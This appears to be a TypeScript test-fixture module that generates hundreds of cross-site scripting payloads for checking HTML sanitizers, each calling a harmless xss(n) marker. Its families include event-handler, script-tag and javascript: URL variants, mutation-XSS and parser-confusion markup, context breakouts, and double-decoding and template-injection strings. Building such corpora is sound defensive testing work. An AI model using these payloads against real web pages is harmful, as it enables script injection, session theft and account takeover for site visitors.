/**
 * Markup that runs a script in a page that doesn't sanitize it. Every payload calls `xss(n)` with its own number, which
 * identifies it. Built from families, so that every combination is covered.
 */
export type XssPayload = { id: number; family: string; html: string };

type Template = { family: string; build: (call: string) => string };

const entity = (text: string) => [...text].map((character) => `&#${character.codePointAt(0)};`).join("");
const hexEntity = (text: string) =>
  [...text].map((character) => `&#x${character.codePointAt(0)?.toString(16).padStart(7, "0")}`).join("");

/** Elements that fire an event when they are added to a page: [markup before the event, event, markup after it]. */
const SELF_FIRING: [string, string, string][] = [
  ["<img src=x", "onerror", ">"],
  ["<img src=x:x", "onerror", ">"],
  ["<img srcset=x", "onerror", ">"],
  ["<image src=x", "onerror", ">"],
  ["<picture><source srcset=x><img", "onerror", "></picture>"],
  ["<svg", "onload", ">"],
  ["<svg><g", "onload", "></g></svg>"],
  ["<svg><animate attributeName=x dur=1ms", "onbegin", "></svg>"],
  ["<svg><set attributeName=x to=1", "onbegin", "></svg>"],
  ["<svg><image href=x", "onerror", "></svg>"],
  ["<svg><style", "onload", "></style></svg>"],
  ["<body", "onload", ">"],
  ["<body", "onpageshow", ">"],
  ["<input autofocus", "onfocus", ">"],
  ["<input type=image src=x", "onerror", ">"],
  ["<textarea autofocus", "onfocus", "></textarea>"],
  ["<select autofocus", "onfocus", "></select>"],
  ["<button autofocus", "onfocus", ">b</button>"],
  ["<a href=#x tabindex=1 autofocus", "onfocus", ">a</a>"],
  ["<div tabindex=1 autofocus", "onfocus", ">d</div>"],
  ["<p contenteditable autofocus", "onfocus", ">p</p>"],
  ["<details open", "ontoggle", "><summary>s</summary></details>"],
  ["<video src=x", "onerror", "></video>"],
  ["<video><source src=x", "onerror", "></video>"],
  ["<audio src=x", "onerror", "></audio>"],
  ["<audio><source src=x", "onerror", "></audio>"],
  ["<iframe", "onload", "></iframe>"],
  ["<object data=x", "onerror", "></object>"],
  ["<object data=data:text/html,x", "onload", "></object>"],
  ["<embed src=data:text/html,x", "onload", ">"],
  ["<link rel=stylesheet href=data:text/css,x", "onload", ">"],
  ["<link rel=stylesheet href=x:x", "onerror", ">"],
  ["<style", "onload", "></style>"],
  ["<script src=x:x", "onerror", "></script>"],
  ["<style>@keyframes k{}</style><b style=animation-name:k;animation-duration:1ms", "onanimationstart", ">b</b>"],
  ["<marquee", "onstart", ">m</marquee>"],
  ["<table><tr><td><img src=x", "onerror", "></td></tr></table>"],
  ["<math><mtext><img src=x", "onerror", "></mtext></math>"],
  ["<iframe srcdoc=x", "onload", "></iframe>"],
  ["<script src=data:text/javascript,0", "onload", "></script>"],
  ["<video src=data:video/mp4,x", "onloadstart", "></video>"],
  ["<audio src=data:audio/mp3,x", "onloadstart", "></audio>"],
  ["<i tabindex=1 autofocus", "onfocusin", ">i</i>"],
  ["<svg><animateTransform attributeName=transform type=scale to=1 dur=1ms", "onend", "></svg>"],
  ["<svg tabindex=1 autofocus", "onfocus", "></svg>"],
  ["<svg><foreignObject><img src=x", "onerror", "></foreignObject></svg>"],
  ["<h2><ul><li><img src=x", "onerror", "></li></ul></h2>"],
];

const HANDLER_SPELLINGS: [string, (event: string, call: string) => string][] = [
  ["bare", (event, call) => ` ${event}=${call}`],
  ["double quotes", (event, call) => ` ${event}="${call}"`],
  ["single quotes, upper case, spaces", (event, call) => ` ${event.toUpperCase()} = '${call}'`],
  ["slash for a space", (event, call) => ` x=""/${event}=${call}//`],
  ["line feed and tab", (event, call) => `\n${event}\t=\t"${call}"`],
  ["entities in the value", (event, call) => ` ${event}="${entity(call)}"`],
];

const SCRIPTS: string[] = [
  "<script>X</script>",
  "<ScRiPt>X</sCrIpT>",
  "<script >X</script >",
  "<script/x>X</script>",
  "<script\n>X</script\n>",
  "<script type=module>X</script>",
  "<script>X",
  "</script><script>X</script>",
  "<script>/*</script><script>*/X</script>",
  "<scr<script>ipt>X</scr</script>ipt>",
  "<script src=data:text/javascript,X></script>",
  "<script src='data:text/javascript;base64,B64'></script>",
  "<svg><script>X</script></svg>",
  "<svg><script>E</script></svg>",
  "<svg><script href=data:text/javascript,X></script></svg>",
  "<math><script>X</script></math>",
  "<!--><script>X</script>-->",
  "<!--a--!><script>X</script>",
  "<?x ><script>X</script>",
  "<![CDATA[><script>X</script>]]>",
  "<p title='</p>'><script>X</script>",
  "\u0000<script>X</script>",
  "<<script>X//<</script>",
  "<iframe srcdoc='<script>parent.X</script>'></iframe>",
  "<iframe srcdoc='&lt;script&gt;parent.X&lt;/script&gt;'></iframe>",
  "<template><script>X</script></template><script>X</script>",
];

/** Links that run script on a click, and elements that open an address by themselves. */
const ADDRESSES: string[] = [
  "<a href=ADDRESS>a</a>",
  "<a href='ADDRESS'>a</a>",
  '<a href="ADDRESS" target=_self>a</a>',
  "<a HREF = 'ADDRESS'>a</a>",
  "<svg><a href='ADDRESS'><text>t</text></a></svg>",
  "<svg><a xlink:href='ADDRESS'><text>t</text></a></svg>",
  "<math><mtext><a href='ADDRESS'>a</a></mtext></math>",
  "<map name=m><area href='ADDRESS' shape=default></map>",
  "<iframe src='ADDRESS'></iframe>",
  "<object data='ADDRESS'></object>",
  "<embed src='ADDRESS'>",
  "<form action='ADDRESS'><button>b</button></form>",
  "<form><button formaction='ADDRESS'>b</button></form>",
  "<form><input type=submit formaction='ADDRESS'></form>",
];

const SCHEMES: ((call: string) => string)[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `&#1;&#32;javascript:${call}`,
  (call) => `java&#9;script&#10;:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `${entity("javascript:")}${call}`,
  (call) => `${hexEntity("javascript:")}&#x3b;${call}`,
  (call) => `javascript://%0a${call}`,
];

/** Harmless markup that becomes script when a sanitizer's output is parsed again. */
const MUTATING: string[] = [
  "<noscript><p title='</noscript><img src=x onerror=X>'></noscript>",
  "<svg></p><style><a id='</style><img src=x onerror=X>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=X&gt;'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=X>",
  "<math><annotation-xml encoding='text/html'><style><img src=x onerror=X></style></annotation-xml></math>",
  "<svg><title><style><!--</style><img src=x onerror=X>--></title></svg>",
  "<svg><desc><noscript><img alt='</noscript><img src=x onerror=X>'></desc></svg>",
  "<textarea><p title='</textarea><img src=x onerror=X>'>",
  "<title><p title='</title><img src=x onerror=X>'>",
  "<xmp><p title='</xmp><img src=x onerror=X>'>",
  "<noembed><p title='</noembed><img src=x onerror=X>'>",
  "<noframes><p title='</noframes><img src=x onerror=X>'>",
  "<iframe><p title='</iframe><img src=x onerror=X>'>",
  "<style><p title='</style><img src=x onerror=X>'>",
  "<select><template><style></select><img src=x onerror=X>",
  "<select><iframe></select><img src=x onerror=X></iframe>",
  "<option><style></option></select><img src=x onerror=X></style>",
  "<table><a href='javascript:0'><table><img src=x onerror=X>",
  "<b><p><b></p><img src=x onerror=X></b>",
  "<!-- --!><img src=x onerror=X>-->",
  "<!--><img src=x onerror=X>-->",
  "<!---><img src=x onerror=X>-->",
  "<!-- \u2028 --><img src=x onerror=X>",
  "<![if IE]><img src=x onerror=X><![endif]>",
  "<img alt='<x' title='/><img src=x onerror=X>'><img src=x onerror=X>",
  '<p id="`"><img src=x onerror=X>`</p>',
  "<a title='\"><img src=x onerror=X>'>a</a><img src=x onerror=X>",
  "<img src=x onerror=X",
  "<img/src=x/onerror=X/>",
  "<img\u000csrc=x\u000conerror=X>",
  "<img src=x onerror\u000c=X>",
  "<img src=x a=`b onerror=X c=`>",
  "<img src='x' onerror='X' onerror='0'>",
  "<img onerror=X src=x onload=X>",
  "<x:img src=x onerror=X></x:img><img src=x onerror=X>",
  "<svg><x><y/><img src=x onerror=X></x></svg>",
  "<svg/><p><svg onload=X></p>",
  "<dialog open><form method=dialog><img src=x onerror=X></form></dialog>",
  "<base href='javascript:X//'><a href=#>a</a>",
  "<meta http-equiv=refresh content='0;url=javascript:X'><img src=x onerror=X>",
  "<isindex action=javascript:X type=image><img src=x onerror=X>",
  "<frameset onload=X><frame src=x></frameset>",
  "<plaintext><img src=x onerror=X>",
  "<listing>&lt;img src=x onerror=X&gt;</listing><img src=x onerror=X>",
];

/** Text that closes the attribute, script, style or comment into which a template inserts it. */
const BREAKOUTS: string[] = [
  '"><img src=x onerror=X>',
  "'><img src=x onerror=X>",
  '" autofocus onfocus="X" x="',
  "' autofocus onfocus='X' x='",
  "</title><script>X</script>",
  "</textarea><script>X</script>",
  "</style><script>X</script>",
  "</script><script>X</script>",
  "--></script><script>X</script>",
  "</noscript><script>X</script>",
  "]]></script><script>X</script>",
  "</option></select><img src=x onerror=X>",
  "\\u003c/script\\u003e\\u003cscript\\u003eX\\u003c/script\\u003e<img src=x onerror=X>",
  '\\"><img src=x onerror=X>',
  "\u2028</script><script>X</script>",
  "<!--<script>--></script><script>X</script>",
];

/** Markup that is harmless until a text filter removes an address together with its closing quote. */
const CUT_OUT: string[] = [
  '<a href="mailto:a@b?Please mention the wo&#114;d **q** and tag A">y. "onfocus=X autofocus tabindex=1 x="</a>',
  '<a href="https://a.example/?Please mention the word **q**">y. "onfocus=X autofocus tabindex=1 x="</a>',
  '<a href="https://a.example/?This is a beta feature to avoid spam">y. "onfocus=X autofocus tabindex=1 x="</a>',
];

/** Text that becomes code if it is decoded or evaluated once too often. */
const TWICE_DECODED: string[] = [
  "&lt;img src=x onerror=X&gt;",
  "&lt;script&gt;X&lt;/script&gt;",
  "&amp;lt;img src=x onerror=X&amp;gt;",
  "&amp;amp;lt;script&amp;amp;gt;X&amp;amp;lt;/script&amp;amp;gt;",
  "%3Cimg src=x onerror=X%3E",
  "\\x3cimg src=x onerror=X\\x3e",
  "{{constructor.constructor('X')()}}",
  "${X}",
  "#{X}",
  "<%= X %>",
  "javascript:X",
  "data:text/html,<script>X</script>",
];

function templates(): Template[] {
  const fill = (family: string, list: string[]): Template[] =>
    list.map((text) => ({
      family,
      build: (call) =>
        text
          .replaceAll("B64", () => Buffer.from(call).toString("base64"))
          .replaceAll(">E<", () => `>${entity(call)}<`)
          .replaceAll("X", () => call),
    }));
  const handlers = SELF_FIRING.flatMap(([open, event, close]) =>
    HANDLER_SPELLINGS.map(([spelling, write]) => ({
      family: `handler ${event}, ${spelling}`,
      build: (call: string) => open + write(event, call) + close,
    })),
  );
  const addresses = ADDRESSES.flatMap((text) =>
    SCHEMES.map((scheme) => ({
      family: "address",
      build: (call: string) => text.replace("ADDRESS", () => scheme(call)),
    })),
  );
  return [
    ...fill("script", SCRIPTS),
    ...handlers,
    ...addresses,
    ...fill("mutating", MUTATING),
    ...fill("breakout", BREAKOUTS),
    ...fill("twice decoded", TWICE_DECODED),
    ...fill("cut out", CUT_OUT),
  ];
}

export const XSS_PAYLOADS: XssPayload[] = templates().map(({ family, build }, id) => ({
  id,
  family,
  html: build(`xss(${id})`),
}));
